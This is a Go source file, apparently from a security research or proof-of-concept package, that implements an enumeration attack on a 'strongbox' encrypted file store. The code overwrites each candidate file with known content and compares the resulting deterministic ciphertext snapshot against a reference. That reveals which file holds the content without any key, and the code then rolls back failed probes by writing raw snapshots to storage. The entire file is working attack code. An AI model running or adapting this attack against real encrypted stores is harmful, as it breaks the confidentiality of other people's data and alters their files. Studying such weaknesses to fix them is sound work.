package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"math/rand/v2"

	"github.com/absfs/strongbox"
	"github.com/sirupsen/logrus"
)

// EnumerateOptions tunes an enumeration run.
type EnumerateOptions struct {
	// Reference is the cipher snapshot captured while the goal content
	// sat at its true location. Nil uses the cipher snapshot read before
	// the first probe.
	Reference []byte

	// Shuffle probes candidates in a random order seeded by Seed.
	Shuffle bool
	Seed    uint64

	Logger logrus.FieldLogger
}

// EnumerateResult reports where the goal content was found.
type EnumerateResult struct {
	Found   bool
	Path    string
	Probes  int
	Skipped int
}

// Enumerate locates the file holding goal by overwriting each candidate
// with goal and checking whether the cipher snapshot comes out identical
// to the reference. Because the arena cipher is deterministic per offset,
// only the file that already held goal leaves the ciphertext unchanged.
//
// A probe that does not match is rolled back by writing the saved
// plaintext and cipher snapshots straight to durable storage; the next
// access restores the arena from them. No key is needed at any point.
func Enumerate(ctx context.Context, target Target, snaps Snapshots, goal []byte, opts EnumerateOptions) (*EnumerateResult, error) {
	log := opts.Logger
	if log == nil {
		log = logrus.StandardLogger()
	}
	if len(goal) == 0 {
		return nil, fmt.Errorf("goal content is empty: %w", strongbox.ErrInvalid)
	}

	candidates, err := Files(target)
	if err != nil {
		return nil, fmt.Errorf("failed to list candidates: %w", err)
	}
	if opts.Shuffle {
		candidates = shuffled(candidates, strongbox.NewRand(opts.Seed))
	}

	reference := opts.Reference
	if reference == nil {
		if reference, err = snaps.Cipher(); err != nil {
			return nil, err
		}
	}

	result := &EnumerateResult{}
	for _, candidate := range candidates {
		if err := ctx.Err(); err != nil {
			return result, err
		}

		matched, err := probe(target, snaps, candidate, goal, reference, log)
		if errors.Is(err, strongbox.ErrTooLarge) {
			log.WithField("path", candidate).Debug("goal does not fit, skipping")
			result.Skipped++
			continue
		}
		if err != nil {
			return result, fmt.Errorf("probe %s: %w", candidate, err)
		}
		result.Probes++

		if matched {
			result.Found = true
			result.Path = candidate
			log.WithFields(logrus.Fields{"path": candidate, "probes": result.Probes}).
				Info("goal located via cipher snapshot match")
			return result, nil
		}
	}

	log.WithField("probes", result.Probes).Info("goal not located")
	return result, ErrExhausted
}

// probe writes goal over candidate and compares the new cipher snapshot to
// reference, rolling back on mismatch.
func probe(target Target, snaps Snapshots, candidate string, goal, reference []byte, log logrus.FieldLogger) (bool, error) {
	// Reading forces a restore, so the snapshots below are current.
	if _, err := target.Read(candidate, len(goal), 0); err != nil {
		return false, err
	}
	oldPlain, err := snaps.Plaintext()
	if err != nil {
		return false, err
	}
	oldCipher, err := snaps.Cipher()
	if err != nil {
		return false, err
	}

	if _, err := target.Write(candidate, goal, 0); err != nil {
		return false, err
	}
	newCipher, err := snaps.Cipher()
	if err != nil {
		return false, err
	}

	log.WithFields(logrus.Fields{
		"path":   candidate,
		"cipher": strongbox.Digest(newCipher),
	}).Debug("probed candidate")

	if bytes.Equal(newCipher, reference) {
		return true, nil
	}

	if err := snaps.WritePlaintext(oldPlain); err != nil {
		return false, err
	}
	if err := snaps.WriteCipher(oldCipher); err != nil {
		return false, err
	}
	return false, nil
}

// shuffled returns a copy of s in an order drawn from rng.
func shuffled(s []string, rng *rand.Rand) []string {
	out := append([]string(nil), s...)
	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out
}
